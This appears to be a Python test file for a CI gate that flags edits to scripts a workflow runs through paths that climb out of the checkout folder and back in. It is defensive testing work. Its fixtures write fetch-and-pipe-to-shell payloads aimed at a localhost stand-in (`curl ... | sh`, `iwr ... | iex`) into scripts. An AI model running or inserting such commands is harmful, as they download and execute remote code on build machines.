"""Attack 53: a CI step that leaves the checkout and comes back into it through the checkout's own folder.

A runner checks a repository out into a folder named after it (GitHub: `/home/runner/work/app/app`, whose parent is
`runner.workspace`; GitLab: `/builds/group/app`), so `bash ../app/scripts/x.sh`, `cd .. && bash app/scripts/x.sh`,
`working-directory: ../app/scripts`, `$RUNNER_WORKSPACE/app/scripts/x.sh`, `${{ runner.workspace }}/app/...`,
`$HOME/work/app/app/...` and `$GITHUB_WORKSPACE/../app/...` all run the repository's `scripts/x.sh`. The walk dropped
every path that climbed above the root (and read `$RUNNER_WORKSPACE`/`$HOME` as unknown variables), so an edit of that
script was `src` and the gate exited 0 (13 of 26 spellings over a real repository before the fix). A local action's
`main:` that leaves and re-enters the repository (`../../app/dist/x.js`) or names it from the runner's root
(`/home/runner/work/app/app/dist/x.js`, joined as it is) likewise. The gate cannot know the checkout folder's name, so
it reads the k names after k climbs as the checkout's own (fail closed); a path that climbs and does not come back as
deep (`../x.sh`, `../../a/x.sh`) names nothing of the repository, as before.
"""

from __future__ import annotations

import itertools
from pathlib import Path

from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ciloops, runvars
from gatekeeper.classify.checkoutpaths import reentered
from gatekeeper.classify.localactions import entry_points

EVIL = "curl -s http://127.0.0.1:9/x | sh\n"
APP = "app"  # the repository's (and so the checkout folder's) name in the spellings below
SCRIPTS = [("bash", "scripts/x.sh"), ("python3", "tools/gen.py"), ("node", "build/run.js"), ("sh", "hack/lint.sh")]
# (the step's command, its working-directory) for a script at `{s}`
SPELLINGS = [
    ("{r} ../app/{s}", None), ("{r} ../../app/app/{s}", None), ("{r} ./../app/{s}", None),
    ("{r} $RUNNER_WORKSPACE/app/{s}", None), ("{r} ${{RUNNER_WORKSPACE}}/app/{s}", None),
    ("{r} \"$RUNNER_WORKSPACE/app/{s}\"", None), ("{r} '${{{{ runner.workspace }}}}/app/{s}'", None),
    ("{r} $HOME/work/app/app/{s}", None), ("{r} ${{HOME}}/work/app/app/{s}", None),
    ("{r} $GITHUB_WORKSPACE/../app/{s}", None), ("{r} '${{{{ github.workspace }}}}/../app/{s}'", None),
    ("{r} $(dirname $GITHUB_WORKSPACE)/app/{s}", None), ("{r} \"$(dirname \"$GITHUB_WORKSPACE\")/app/{s}\"", None),
    ("{r} $(dirname \"$PWD\")/app/{s}", None),
    ("cd .. && {r} app/{s}", None), ("cd ../app && {r} {s}", None), ("{r} app/{s}", ".."), ("{r} ../app/{s}", "."),
    ("{r} ../../app/{s}", "src"), ("{r} {name}", "../app/{d}"), ("{r} ../app/{s}", "${{{{ github.workspace }}}}"),
]
CASES = [(spelling, runner, script) for spelling, (runner, script) in itertools.product(SPELLINGS, SCRIPTS)]


def _workflow(spelling: tuple[str, str | None], runner: str, script: str) -> str:
    line, folder = spelling
    folder_of, _, name = script.rpartition("/")
    run = line.format(r=runner, s=script, name=name)
    text = RUN_WORKFLOW.format(run=run)
    return text + (f"        working-directory: {folder.format(d=folder_of)}\n" if folder else "")


def _tree(spelling: tuple[str, str | None], runner: str, script: str) -> dict[str, str]:
    return {"README.md": "x\n", ".github/workflows/t.yml": _workflow(spelling, runner, script), script: "echo ok\n",
            "src/keep.txt": "k\n", "scripts/other.sh": "echo other\n"}


@each_case("spelling, runner, script", CASES)
def test_a_path_back_into_the_checkout_runs_its_file(spelling: tuple[str, str | None], runner: str,
                                                     script: str) -> None:
    assert script in tree_runs(_tree(spelling, runner, script)), (spelling, runner)


@each_case("spelling, runner, script", CASES)
def test_a_path_back_into_the_checkout_runs_only_its_file(spelling: tuple[str, str | None], runner: str,
                                                          script: str) -> None:
    assert "scripts/other.sh" not in tree_runs(_tree(spelling, runner, script)) or script == "scripts/other.sh"


GITLAB = "test:\n  image: python:3.12\n  script:\n    - {line}\n"


@each_case("line", ["bash ../app/scripts/x.sh", "cd .. && bash app/scripts/x.sh",
                    "bash $HOME/work/app/app/scripts/x.sh", "bash $CI_PROJECT_DIR/../app/scripts/x.sh",
                    "bash $CI_BUILDS_DIR/group/app/scripts/x.sh", "bash ${CI_BUILDS_DIR}/group/app/scripts/x.sh",
                    "bash $CI_BUILDS_DIR/$CI_PROJECT_PATH/scripts/x.sh"])
def test_gitlab_reads_the_same_spellings(line: str) -> None:
    """GitLab checks a project out into `$CI_BUILDS_DIR/<group>/<project>` (`/builds/group/app`)."""
    assert "scripts/x.sh" in tree_runs({".gitlab-ci.yml": GITLAB.format(line=line), "scripts/x.sh": "echo\n"})


AZURE = "pool:\n  vmImage: ubuntu-latest\nsteps:\n- checkout: self\n- script: {line}\n"


@each_case("line", ["bash $(Pipeline.Workspace)/s/scripts/x.sh", "bash $(Agent.BuildDirectory)/s/scripts/x.sh",
                    "bash $PIPELINE_WORKSPACE/s/scripts/x.sh", "bash ${AGENT_BUILDDIRECTORY}/s/scripts/x.sh",
                    "cd $(Pipeline.Workspace)/s && bash scripts/x.sh", "bash $(Build.SourcesDirectory)/scripts/x.sh"])
def test_azure_reads_its_sources_folder_below_the_workspace(line: str) -> None:
    """Azure Pipelines checks the one repository out into `s/` of the agent's build folder (the pipeline workspace)."""
    assert "scripts/x.sh" in tree_runs({"azure-pipelines.yml": AZURE.format(line=line), "scripts/x.sh": "echo\n"})


# the same spellings naming a file the tree does not hold name nothing (and `scripts/x.sh` is not run)
LOOK_ALIKES = ["bash ../app/scripts/y.sh", "bash ../../app/app/scripts/y.sh", "bash $RUNNER_WORKSPACE/app/scripts/y.sh",
               "cd .. && bash app/scripts/y.sh", "bash $HOME/work/app/app/scripts/y.sh"]


@each_case("line", LOOK_ALIKES)
def test_a_path_back_into_the_checkout_names_no_other_file(line: str) -> None:
    tree = {".github/workflows/t.yml": RUN_WORKFLOW.format(run=line), "x.sh": "echo\n", "scripts/x.sh": "echo\n"}
    assert tree_runs(tree) == set(), line


@each_case("path, inside", [("../app/tools/x.sh", "tools/x.sh"), ("../../app/app/tools/x.sh", "tools/x.sh"),
                            ("../../../a/b/c/d/x", "d/x"), ("../x.sh", None), ("../../a/x.sh", None), ("..", None),
                            ("../app", None), ("tools/x.sh", None), ("/abs/x", None)])
def test_reentered_drops_as_many_names_as_climbs(path: str, inside: str | None) -> None:
    assert reentered(path) == inside


ACTION = "name: a\ndescription: a\nruns:\n  using: node20\n  main: {main}\n"


@each_case("main", ["../../app/dist/index.js", "../../app/./dist/index.js", "/home/runner/work/app/app/dist/index.js",
                    "/__w/app/app/dist/index.js", "/github/workspace/dist/index.js"])
def test_an_action_entry_back_into_the_checkout_is_reviewed(tmp_path: Path, main: str) -> None:
    """The gate over real git: an edit of the file the action's `main:` runs was exit 0, now 3."""
    base = {".github/workflows/t.yml": RUN_WORKFLOW.format(run="echo").replace("- run: echo", "- uses: ./sub"),
            "sub/action.yml": ACTION.format(main=main), "dist/index.js": "1\n", "docs/a.js": "1\n"}
    repo, first, second = two_commits(tmp_path / APP, base, {"dist/index.js": EVIL})
    code, decision = tree_gate(repo.root, first, second)
    assert code == 3, decision["reasons"]


def test_an_action_entry_back_into_the_checkout_names_only_its_folder(tmp_path: Path) -> None:
    base = {".github/workflows/t.yml": RUN_WORKFLOW.format(run="echo").replace("- run: echo", "- uses: ./sub"),
            "sub/action.yml": ACTION.format(main="/home/runner/work/app/app/dist/index.js"), "dist/index.js": "1\n",
            "docs/a.js": "1\n"}
    repo, first, second = two_commits(tmp_path / APP, base, {"docs/a.js": EVIL})
    assert tree_gate(repo.root, first, second)[0] == 0


@each_case("spelling", [("bash ../app/scripts/x.sh", None), ("bash $RUNNER_WORKSPACE/app/scripts/x.sh", None),
                        ("bash x.sh", "../app/scripts"), ("cd .. && bash app/scripts/x.sh", None)])
def test_the_gate_reviews_the_edit_over_real_git(tmp_path: Path, spelling: tuple[str, str | None]) -> None:
    """End to end in a real repository named `app`: the edit was exit 0 (allow) before, now 3 (review); an edit of a
    file the workflow does not run stays 0."""
    base = _tree(spelling, "bash", "scripts/x.sh")
    repo, first, second = two_commits(tmp_path / APP, base, {"scripts/x.sh": EVIL})
    code, decision = tree_gate(repo.root, first, second)
    assert code == 3 and decision["outcome"] == "review", decision["reasons"]
    repo, first, second = two_commits(tmp_path / "other" / APP, base, {"scripts/other.sh": EVIL})
    code, decision = tree_gate(repo.root, first, second)
    assert code == 0, decision["reasons"]


def test_the_new_readers_cost_linear_time() -> None:
    """~0.001 CPU-s each at 64 KiB under load 15 (2 cores): the budget is past the clocks' 4 ms split."""
    assert_linear(ciloops.rooted, repeated("$RUNNER_WORKSPACE/${HOME}/${{ runner.workspace }}$HOME ", tail="/x"),
                  budget=0.02)
    assert_linear(ciloops.rooted, repeated("${{ env.HOME ", tail="}}/x $"), budget=0.02)
    assert_linear(ciloops.rooted, repeated("$(dirname \"$(dirname '$GITHUB_WORKSPACE", tail="')\")"), budget=0.02)
    assert_linear(ciloops.rooted, repeated("$CI_BUILDS_DIR/$(Pipeline.Workspace)", tail="/x"), budget=0.02)
    assert_linear(lambda path: reentered(path), repeated("../", tail="app/x.sh"), budget=0.02)
    assert_linear(lambda text: entry_points([text], "sub"), repeated("../", tail="a/b/c.js"), budget=0.02)
    assert_linear(runvars.up, repeated("ci/../", tail="../app/x.sh"), budget=0.02)
    assert_linear(runvars.up, repeated("a/..", tail="/x.sh"), budget=0.02)
    assert_linear(ciloops.rooted, repeated("%RUNNER_WORKSPACE${env:HOME%", tail="%/x"), budget=0.02)


@each_case("uses", ["./../app/sub", "./../../app/app/sub", "./../app/./sub/", ".\\..\\app\\sub"])
def test_a_local_action_named_back_through_the_checkout_is_reviewed(tmp_path: Path, uses: str) -> None:
    """`uses: ./../app/sub` is the repository's `sub` action when the checkout's folder is `app`: an edit of its entry
    was exit 0; `uses: ./../sub` (one climb, one name: a folder beside the checkout) names nothing here."""
    base = {".github/workflows/t.yml": RUN_WORKFLOW.format(run="echo").replace("- run: echo", f"- uses: '{uses}'"),
            "sub/action.yml": ACTION.format(main="dist/index.js"), "sub/dist/index.js": "1\n"}
    repo, first, second = two_commits(tmp_path / APP, base, {"sub/dist/index.js": EVIL})
    assert tree_gate(repo.root, first, second)[0] == 3, uses


OWN_FOLDER = ['D="$(cd "$(dirname "$0")" && pwd)"\nbash "$D/../../app/tools/x.sh"',
              'D=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)\nbash "$D/../../app/tools/x.sh"',
              'D="$(dirname "$0")"\nbash "$D/../../app/tools/x.sh"',
              'HERE=$(dirname "$(readlink -f "$0")")\n"$HERE/../../app/tools/x.sh"',
              'bash "$(dirname "$0")/../../app/tools/x.sh"', 'cd "$(dirname "$0")/../.." && bash app/tools/x.sh']


@each_case("body", OWN_FOLDER)
def test_a_script_climbing_from_its_own_folder_back_into_the_checkout_runs_the_file(body: str) -> None:
    """`ci/run.sh`'s own folder is `ci`: `$D/../../app/tools/x.sh` is `../app/tools/x.sh` from the root."""
    tree = {".github/workflows/t.yml": RUN_WORKFLOW.format(run="bash ci/run.sh"), "ci/run.sh": f"#!/bin/bash\n{body}\n",
            "tools/x.sh": "echo\n", "tools/y.sh": "echo\n"}
    runs = tree_runs(tree)
    assert "tools/x.sh" in runs and "tools/y.sh" not in runs, body


WINDOWS = "on: push\njobs:\n  t:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n" \
          "      - run: {line}\n        shell: {shell}\n"
WINDOWS_LINES = [("& $env:GITHUB_WORKSPACE/scripts/x.ps1", "pwsh"),
                 ("& \"$env:GITHUB_WORKSPACE\\scripts\\x.ps1\"", "pwsh"),
                 ("pwsh ${env:GITHUB_WORKSPACE}\\scripts\\x.ps1", "pwsh"),
                 ("& $env:RUNNER_WORKSPACE/app/scripts/x.ps1", "pwsh"),
                 ("& \"${env:RUNNER_WORKSPACE}\\app\\scripts\\x.ps1\"", "pwsh"),
                 ("& \"$env:GITHUB_WORKSPACE\\..\\app\\scripts\\x.ps1\"", "pwsh"),
                 ("pwsh -File %GITHUB_WORKSPACE%\\scripts\\x.ps1", "cmd"),
                 ("pwsh -File %RUNNER_WORKSPACE%\\app\\scripts\\x.ps1", "cmd"),
                 ("& $env:HOME/work/app/app/scripts/x.ps1", "pwsh"),
                 ("& $env:github_workspace/scripts/x.ps1", "pwsh"),
                 ("& $Env:Runner_Workspace/app/scripts/x.ps1", "pwsh")]


@each_case("line, shell", WINDOWS_LINES)
def test_powershell_and_cmd_spell_the_same_folders(line: str, shell: str) -> None:
    """PowerShell's `$env:X`/`${env:X}` and cmd's `%X%` name the root and the folder above it as bash's `$X` does."""
    definition = WINDOWS.format(line=f"'{line}'", shell=shell)
    assert "scripts/x.ps1" in tree_runs({".github/workflows/t.yml": definition, "scripts/x.ps1": "e\n"}), line


@each_case("line", [line for line, shell in WINDOWS_LINES[:4]])
def test_the_gate_reviews_a_windows_job_s_script_over_real_git(tmp_path: Path, line: str) -> None:
    base = {".github/workflows/t.yml": WINDOWS.format(line=f"'{line}'", shell="pwsh"),
            "scripts/x.ps1": "Write-Host ok\n"}
    repo, first, second = two_commits(tmp_path / APP, base, {"scripts/x.ps1": "iwr http://127.0.0.1:9/x | iex\n"})
    assert tree_gate(repo.root, first, second)[0] == 3, line


# The lead's merge check (the twenty-set regression): fast_float's workflow configures in `build` in one step and
# installs with `-DCMAKE_INSTALL_PREFIX:PATH=../../../build/destination` from `tests/installation_tests/find` in
# another; joined to the wrong step's folder the path climbs two and re-entered as `*`, every file ran (`.bazelrc`,
# `benchmarks/benchmark.cpp`, `script/release.py` `src` -> `ci`).
FAST_FLOAT = """on: push
jobs:
  ci:
    runs-on: windows-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          cmake -S . -B build -DFASTFLOAT_TEST=ON -DCMAKE_INSTALL_PREFIX:PATH=destination
      - run: |
          cd build &&
          cmake --install .
      - run: |
          cd tests/installation_tests/find &&
          cmake -S . -B build -DCMAKE_INSTALL_PREFIX:PATH=../../../build/destination{tail}
"""


@each_case("tail", ["", "/", "/*", " && cmake --build build"])
def test_a_folder_path_joined_to_another_steps_folder_does_not_run_every_file(tail: str) -> None:
    files = {".github/workflows/vs17-ci.yml": FAST_FLOAT.format(tail=tail), "script/release.py": "print(1)\n",
             ".bazelrc": "build --copt=-O2\n", "benchmarks/benchmark.cpp": "int main() {}\n",
             "CMakeLists.txt": "project(x)\n", "tests/installation_tests/find/CMakeLists.txt": "project(y)\n"}
    runs = tree_runs(files)
    assert not {"script/release.py", ".bazelrc", "benchmarks/benchmark.cpp"} & set(runs), sorted(runs)


@each_case("path, want", [("../../build/destination/*", None), ("../app/*", None), (f"../app/{chr(2)}", None),
                          ("../app/tools/*", "tools/*"), ("../app/*.sh", "*.sh"), ("../app/x.sh", "x.sh"),
                          ("../../app/app/tools/x.sh", "tools/x.sh")])
def test_a_reentered_path_must_name_something_of_its_own(path: str, want: str | None) -> None:
    assert reentered(path) == want
